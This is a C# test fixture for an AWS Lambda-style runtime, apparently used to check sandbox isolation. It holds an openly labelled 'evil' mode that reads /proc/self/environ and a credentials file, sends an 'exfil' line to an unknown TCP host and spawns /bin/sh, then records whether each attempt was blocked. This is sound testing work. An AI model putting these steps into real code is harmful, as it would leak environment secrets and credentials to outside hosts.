// The .NET fixture function (see ../README.md) and its runtime client.
//
// AWS's .NET runtime client (Amazon.Lambda.RuntimeSupport) cannot be installed
// here, so this program is both: a loop that speaks Lambda's Runtime API with
// HttpClient, as RuntimeSupport does (GET .../invocation/next, then POST
// .../invocation/{id}/response, or .../invocation/{id}/error when the
// handler throws), and the handler, with an honest behaviour and a
// compromised one selected by the event.
//
// Compiled with Mono's mcs (-r:System.Net.Http.dll) and run on .NET Core 3.1
// (the dotnetcore2 wheel) next to Bootstrap.runtimeconfig.json. Neither
// compiler nor runtime here has a JSON library both can use, so the event is
// matched with regular expressions and the result written by hand.
using System;
using System.Collections.Generic;
using System.Diagnostics;
using System.IO;
using System.Net.Http;
using System.Net.Sockets;
using System.Text;
using System.Text.RegularExpressions;
using System.Threading;

public static class Bootstrap
{
    const string Runtime = "dotnet";
    static readonly Regex Evil = new Regex("\"evil\"\\s*:\\s*true");
    static readonly Regex Fail = new Regex("\"fail\"\\s*:\\s*true");
    static readonly Regex Noop = new Regex("\"noop\"\\s*:\\s*true");
    static readonly Regex Greeting = new Regex("\"greeting\"\\s*:\\s*\"([^\"]*)\"");

    public static int Main(string[] args)
    {
        string api = Environment.GetEnvironmentVariable("AWS_LAMBDA_RUNTIME_API");
        if (string.IsNullOrEmpty(api))
        {
            Console.Error.WriteLine("AWS_LAMBDA_RUNTIME_API is not set: run this under a Lambda Runtime API");
            return 2;
        }
        string baseUrl = "http://" + api + "/2018-06-01/runtime";
        // The next invocation may be minutes away: no client-side timeout.
        var http = new HttpClient { Timeout = Timeout.InfiniteTimeSpan };
        while (true)
        {
            HttpResponseMessage next = http.GetAsync(baseUrl + "/invocation/next").Result;
            if (!next.IsSuccessStatusCode)
            {
                Console.Error.WriteLine("GET /invocation/next answered " + (int)next.StatusCode);
                return 1;
            }
            string requestId = Header(next, "Lambda-Runtime-Aws-Request-Id");
            string evt = next.Content.ReadAsStringAsync().Result;
            string path;
            string body;
            var headers = new Dictionary<string, string>();
            try
            {
                body = Handle(evt, requestId);
                path = "/invocation/" + requestId + "/response";
            }
            catch (Exception e)
            {
                Console.Error.WriteLine(e.ToString());
                string type = e.GetType().Name;
                body = "{\"errorMessage\":" + Quote(e.Message) + ",\"errorType\":" + Quote(type) + "}";
                path = "/invocation/" + requestId + "/error";
                headers["Lambda-Runtime-Function-Error-Type"] = "Unhandled";
            }
            var request = new HttpRequestMessage(HttpMethod.Post, baseUrl + path)
            {
                Content = new StringContent(body, Encoding.UTF8, "application/json"),
            };
            foreach (var h in headers) request.Headers.TryAddWithoutValidation(h.Key, h.Value);
            HttpResponseMessage posted = http.SendAsync(request).Result;
            if (!posted.IsSuccessStatusCode)
            {
                Console.Error.WriteLine("POST " + path + " answered " + (int)posted.StatusCode);
            }
        }
    }

    static string Header(HttpResponseMessage response, string name)
    {
        IEnumerable<string> values;
        if (response.Headers.TryGetValues(name, out values))
        {
            foreach (string v in values) return v;
        }
        return "";
    }

    delegate void Action();

    static void Attempt(List<string> actions, string name, Action action)
    {
        string outcome;
        try
        {
            action();
            outcome = "ok";
        }
        catch (Exception e)
        {
            outcome = string.IsNullOrEmpty(e.Message) ? e.GetType().Name : e.Message;
        }
        actions.Add(Quote(name) + ":" + Quote(outcome));
    }

    static void Connect(string variable, string line, bool reply)
    {
        string value = Environment.GetEnvironmentVariable(variable) ?? "";
        int at = value.LastIndexOf(':');
        using (var client = new TcpClient())
        {
            client.SendTimeout = 5000;
            client.ReceiveTimeout = 5000;
            client.Connect(value.Substring(0, at), int.Parse(value.Substring(at + 1)));
            NetworkStream stream = client.GetStream();
            byte[] bytes = Encoding.UTF8.GetBytes(line);
            stream.Write(bytes, 0, bytes.Length);
            if (!reply) return;
            var got = new StringBuilder();
            var buffer = new byte[64];
            while (!got.ToString().Contains("\n"))
            {
                int n = stream.Read(buffer, 0, buffer.Length);
                if (n == 0) break;
                got.Append(Encoding.UTF8.GetString(buffer, 0, n));
            }
            if (got.ToString() != "pong\n") throw new InvalidOperationException("unexpected reply " + Quote(got.ToString()));
        }
    }

    static string Handle(string evt, string requestId)
    {
        if (Fail.IsMatch(evt)) throw new InvalidOperationException("fixture failure requested");
        if (Noop.IsMatch(evt))
        {
            return "{\"runtime\":" + Quote(Runtime) + ",\"request_id\":" + Quote(requestId)
                + ",\"pid\":" + Process.GetCurrentProcess().Id + ",\"noop\":true}";
        }
        bool evil = Evil.IsMatch(evt);
        string greeting = null;
        var actions = new List<string>();
        Attempt(actions, "config", () =>
        {
            string root = Environment.GetEnvironmentVariable("LAMBDA_TASK_ROOT");
            if (string.IsNullOrEmpty(root)) root = Directory.GetCurrentDirectory();
            Match m = Greeting.Match(File.ReadAllText(Path.Combine(root, "config.json")));
            if (!m.Success) throw new InvalidOperationException("no greeting in config.json");
            greeting = m.Groups[1].Value;
        });
        Attempt(actions, "tmp", () =>
        {
            string dir = Environment.GetEnvironmentVariable("FIXTURE_TMP");
            if (string.IsNullOrEmpty(dir)) dir = "/tmp";
            File.WriteAllText(Path.Combine(dir, Runtime + "-out.json"), "{\"request_id\":" + Quote(requestId) + "}");
        });
        Attempt(actions, "peer", () => Connect("FIXTURE_PEER", "ping " + Runtime + "\n", true));
        if (evil)
        {
            Attempt(actions, "environ", () => File.ReadAllBytes("/proc/self/environ"));
            Attempt(actions, "credentials", () => File.ReadAllBytes(Environment.GetEnvironmentVariable("FIXTURE_CREDENTIALS")));
            Attempt(actions, "unknown", () => Connect("FIXTURE_UNKNOWN", "exfil " + Runtime + "\n", false));
            Attempt(actions, "spawn", () =>
            {
                var info = new ProcessStartInfo("/bin/sh", "-c true") { UseShellExecute = false };
                using (Process p = Process.Start(info))
                {
                    p.WaitForExit();
                    if (p.ExitCode != 0) throw new InvalidOperationException("/bin/sh exited with " + p.ExitCode);
                }
            });
        }
        return "{\"runtime\":" + Quote(Runtime) + ",\"request_id\":" + Quote(requestId)
            + ",\"pid\":" + Process.GetCurrentProcess().Id
            + ",\"evil\":" + (evil ? "true" : "false") + ",\"greeting\":" + (greeting == null ? "null" : Quote(greeting))
            + ",\"actions\":{" + string.Join(",", actions) + "}}";
    }

    static string Quote(string s)
    {
        var b = new StringBuilder("\"");
        foreach (char c in s)
        {
            if (c == '"' || c == '\\') b.Append('\\').Append(c);
            else if (c < ' ') b.AppendFormat("\\u{0:x4}", (int)c);
            else b.Append(c);
        }
        return b.Append('"').ToString();
    }
}
